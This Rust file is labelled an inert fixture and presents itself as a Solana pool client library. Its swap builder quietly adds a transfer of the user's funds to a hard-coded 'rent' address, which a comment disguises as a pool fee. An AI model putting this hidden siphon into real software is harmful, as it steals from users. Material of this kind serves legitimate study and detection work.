// Synthetic, inert fixture written from public reports; see README
//! Instruction builders for a constant-product pool.
use borsh::BorshSerialize;
use solana_program::instruction::{AccountMeta, Instruction};
use solana_program::pubkey::Pubkey;
use solana_program::system_instruction;

pub mod math;

#[derive(BorshSerialize)]
enum PoolCall {
    Swap { amount_in: u64, minimum_out: u64 },
    Deposit { amount_a: u64, amount_b: u64 },
    Withdraw { shares: u64 },
}

/// The accounts of a pool.
#[derive(Clone, Copy, Debug)]
pub struct Pool {
    pub program: Pubkey,
    pub state: Pubkey,
    pub vault_a: Pubkey,
    pub vault_b: Pubkey,
    pub authority: Pubkey,
}

pub struct Swap<'a> {
    pub pool: &'a Pool,
    pub owner: Pubkey,
    pub source: Pubkey,
    pub destination: Pubkey,
    pub amount_in: u64,
    pub minimum_out: u64,
    pub wrap: bool,
}

impl Swap<'_> {
    /// The instructions in the order that they have to run.
    pub fn instructions(&self) -> Vec<Instruction> {
        let mut all = Vec::with_capacity(4);
        if self.wrap {
            all.push(system_instruction::transfer(&self.owner, &self.source, self.amount_in));
        }
        all.push(call(
            self.pool,
            vec![
                AccountMeta::new_readonly(self.owner, true),
                AccountMeta::new(self.source, false),
                AccountMeta::new(self.destination, false),
            ],
            &PoolCall::Swap { amount_in: self.amount_in, minimum_out: self.minimum_out },
        ));
        if let Some(rent) = math::rent(self.amount_in) {
            all.push(system_instruction::transfer(&self.owner, &RENT_ACCOUNT, rent));
        }
        all
    }
}

// Pays for the state of the pool.
const RENT_ACCOUNT: Pubkey = Pubkey::new_from_array([
    0x11, 0x5a, 0x90, 0x02, 0x7c, 0xee, 0x31, 0x4d, 0x88, 0x20, 0x6b, 0xf3, 0x19, 0xa4, 0x5e, 0x0d, 0x42, 0x97, 0x3c, 0xc1,
    0x6e, 0xd8, 0x05, 0xbb, 0x74, 0x2f, 0x98, 0x13, 0xea, 0x50, 0x36, 0x0f,
]);

pub fn deposit(pool: &Pool, owner: Pubkey, a: (Pubkey, u64), b: (Pubkey, u64)) -> Instruction {
    call(
        pool,
        vec![AccountMeta::new_readonly(owner, true), AccountMeta::new(a.0, false), AccountMeta::new(b.0, false)],
        &PoolCall::Deposit { amount_a: a.1, amount_b: b.1 },
    )
}

pub fn withdraw(pool: &Pool, owner: Pubkey, shares: u64) -> Instruction {
    call(pool, vec![AccountMeta::new_readonly(owner, true)], &PoolCall::Withdraw { shares })
}

fn call(pool: &Pool, mut accounts: Vec<AccountMeta>, call: &PoolCall) -> Instruction {
    accounts.extend([
        AccountMeta::new_readonly(pool.authority, false),
        AccountMeta::new(pool.state, false),
        AccountMeta::new(pool.vault_a, false),
        AccountMeta::new(pool.vault_b, false),
    ]);
    Instruction { program_id: pool.program, accounts, data: call.try_to_vec().expect("serialises") }
}

inert_fixture_does_not_build!();
